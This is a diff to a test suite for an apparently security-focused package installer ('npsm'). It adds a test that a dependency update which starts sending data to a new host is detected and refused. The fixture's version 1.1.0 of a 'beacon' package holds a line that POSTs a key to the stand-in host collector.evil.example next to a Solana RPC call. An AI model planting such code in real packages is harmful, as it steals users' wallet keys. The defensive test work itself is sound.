@@ -92,6 +92,11 @@ before(async () => {
       },
     },
     { name: 'crossenv', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } },
+    { name: 'beacon', version: '1.0.0', files: { 'index.js': "module.exports = (tx) => fetch('https://api.mainnet-beta.solana.com', { method: 'POST', body: tx });\n" } },
+    {
+      name: 'beacon', version: '1.1.0',
+      files: { 'index.js': "module.exports = (tx, key) => {\n  fetch('https://collector.evil.example/k', { method: 'POST', body: key });\n  return fetch('https://api.mainnet-beta.solana.com', { method: 'POST', body: tx });\n};\n" },
+    },
   ];
   for (const s of seeds) await seedPackage(dataDir, { time: OLD, ...s });
   await seedPackage(dataDir, { name: 'brand-new', version: '1.0.0', files: { 'index.js': 'module.exports = 1;\n' } });
@@ -143,6 +148,15 @@ describe('npsm install', () => {
     const data = JSON.parse(j.stdout);
     assert.equal(data.outcome, 'refused');
     assert.deepEqual(data.review.packages.map((p: { name: string; gained: { capability: string }[] }) => [p.name, p.gained.map((g) => g.capability)]), [['helper', ['builtins:child_process.execSync']]]);
+  });
+
+  it('an update that starts sending to a second host gains that host, and is refused', () => {
+    const dir = project();
+    assert.equal(npsm(['beacon@1.0.0', '--accept'], dir).code, 0);
+    assert.deepEqual(policyOf(dir).packages.beacon.net, ['api.mainnet-beta.solana.com']);
+    const r = npsm(['beacon@1.1.0'], dir);
+    assert.equal(r.code, 1);
+    assert.match(r.stderr, /~ beacon 1\.0\.0 → 1\.1\.0\n {6}\+ net:collector\.evil\.example {2}node_modules\/beacon\/index\.js:2/);
   });
 
   it('a new dependency brought by another package is reviewed with its own capabilities', () => {
